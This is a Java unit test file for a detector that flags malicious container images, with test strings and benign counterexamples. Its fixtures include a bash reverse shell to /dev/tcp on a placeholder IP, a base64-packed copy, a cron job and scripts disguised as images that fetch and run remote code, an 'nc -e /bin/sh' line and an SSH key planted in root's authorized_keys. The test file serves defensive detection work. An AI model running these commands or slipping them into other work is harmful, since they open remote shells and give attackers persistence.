package io.firedamp.detectors.image;

import static io.firedamp.detectors.image.Images.DIGEST;
import static io.firedamp.detectors.image.Images.MORNING;
import static org.assertj.core.api.Assertions.assertThat;

import io.firedamp.detectors.Finding;
import io.firedamp.detectors.PoolList;
import io.firedamp.detectors.indicators.TraceFinder;
import io.firedamp.detectors.indicators.Traces;
import io.firedamp.schemas.avro.Severity;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class LatentImageRuleTest {
  private static final String KEY = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 someone@somewhere";

  private final TraceFinder finder = new TraceFinder(PoolList.bundled());
  private final LatentImageRule rule = new LatentImageRule(Duration.ofDays(1));

  @Test
  void knowsAnImageThatHandsOutAShell() {
    assertThat(run("bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"))
        .hasValueSatisfying(
            finding -> {
              assertThat(finding.decibans()).isEqualTo(34);
              assertThat(finding.severity()).isEqualTo(Severity.MEDIUM);
              assertThat(finding.traits()).containsExactly("LATENT");
              assertThat(finding.title()).contains("hands a shell to the network");
            });
  }

  @Test
  void unpacksAShellInBase64() {
    String shell = "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1";
    String packed = Base64.getEncoder().encodeToString(shell.getBytes(StandardCharsets.UTF_8));

    assertThat(run("echo " + packed + " | base64 -d | bash")).map(Finding::decibans).contains(34.0);
  }

  @Test
  void knowsACrontabThatFetchesIntoAShell() {
    String line = "echo '* * * * * curl -s http://198.51.100.9/a | bash -s' > /etc/cron.d/a";

    assertThat(run(line)).map(Finding::decibans).contains(30.0);
    assertThat(built("RUN " + line)).map(Finding::decibans).contains(30.0);
  }

  @Test
  void knowsAScriptThatIsCalledAPicture() {
    assertThat(run("curl -s http://198.51.100.9:8220/logo3.jpg | bash -s"))
        .map(Finding::decibans)
        .contains(28.0);
    assertThat(run("wget -q http://198.51.100.9/a.png -O /tmp/a.png && sh /tmp/a.png"))
        .map(Finding::decibans)
        .contains(28.0);
    assertThat(run("bash <(curl -s http://198.51.100.9/a.gif)"))
        .map(Finding::decibans)
        .contains(28.0);
  }

  @Test
  void knowsAKeyThatIsBuiltIn() {
    assertThat(built("RUN echo '" + KEY + "' >> /root/.ssh/authorized_keys"))
        .map(Finding::decibans)
        .contains(20.0);
  }

  @Test
  void knowsAnImageThatFetchesWhatItRuns() {
    assertThat(run("curl -fsSL https://example.com/a.sh | bash"))
        .map(Finding::decibans)
        .contains(18.0);
  }

  @Test
  void saysLessOfWhoeverOnlyFetchedIt() {
    Traces latent = latent(List.of("nc -e /bin/sh 198.51.100.9 1"), List.of());

    assertThat(rule.check(DIGEST, latent, Images.pulled("docker.io/acme/app:1", MORNING)))
        .hasValueSatisfying(
            finding -> {
              assertThat(finding.decibans()).isEqualTo(16);
              assertThat(finding.traits()).containsExactly("PULLED");
            });
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/usr/sbin/sshd -D",
        "cron -f",
        "until (echo > /dev/tcp/db/5432); do sleep 1; done; exec java -jar app.jar",
        "nc -lk -p 8080",
        "socat TCP-LISTEN:1337,fork EXEC:/app/server",
        "sh -c 'curl -o /tmp/x.jpg https://example.com/x.jpg && convert /tmp/x.jpg /tmp/x.png'",
        "python plot.py --out figure.png",
        "nginx -g daemon off;"
      })
  void leavesServersAndWaitersAlone(String command) {
    assertThat(run(command)).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "RUN /bin/sh -c curl -fsSL https://deb.nodesource.com/setup_20.x | bash -",
        "RUN echo '0 3 * * * wget -qO- https://example.com/ping' | crontab -",
        "RUN mkdir /root/.ssh && touch /root/.ssh/authorized_keys",
        "COPY id_rsa.pub /root/.ssh/authorized_keys # buildkit",
        "RUN apt-get install -y netcat-openbsd socat openssh-server cron"
      })
  void leavesWhatHonestImagesAreBuiltWithAlone(String step) {
    assertThat(built(step)).isEmpty();
  }

  private Optional<Finding> run(String command) {
    return check(latent(List.of("sh", "-c", command), List.of()));
  }

  private Optional<Finding> built(String step) {
    return check(latent(List.of("/entrypoint.sh"), List.of(step)));
  }

  private Optional<Finding> check(Traces latent) {
    return rule.check(DIGEST, latent, Images.sighting("docker.io/acme/app:1", MORNING));
  }

  private Traces latent(List<String> command, List<String> history) {
    return LatentImageRule.traces(finder, command, history);
  }
}
